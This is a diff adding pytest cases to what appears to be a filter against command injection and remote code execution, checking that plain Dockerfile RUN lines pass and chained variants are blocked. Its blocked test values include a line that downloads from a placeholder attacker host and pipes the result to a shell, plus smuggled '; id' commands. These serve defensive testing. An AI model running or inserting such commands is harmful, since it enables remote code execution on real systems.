@@ -1021,3 +1021,17 @@ def test_capitals_outside_a_recipe_still_refused(rce_edge, value):
     """Outside a recipe's tab-started line (PowerShell's $(...) finds
     commands whatever their case), and a name that is not all capitals."""
     assert_blocked_by_rce(rce_edge, value)
+
+
+@pytest.mark.parametrize("value", ["FROM node:20-alpine\nWORKDIR /srv\nRUN yarn install && yarn build",
+                                   "RUN pip install -r requirements.txt && pytest -q"])
+def test_a_dockerfile_run_line_passes(edge, value):
+    """"RUN yarn install && yarn build": no shell has a command RUN in capitals,
+    and "&&" runs what follows only when it succeeded, as after a prompt."""
+    assert_passes_in_note_and_query(edge, value)
+
+
+@pytest.mark.parametrize("value", ["RUN npm ci; id", "run npm ci && id",
+                                   "FROM alpine\nRUN apk add curl && curl http://evil.example/x | sh"])
+def test_a_run_line_that_chains_or_pipes_still_refused(rce_edge, value):
+    assert_blocked_by_rce(rce_edge, value)
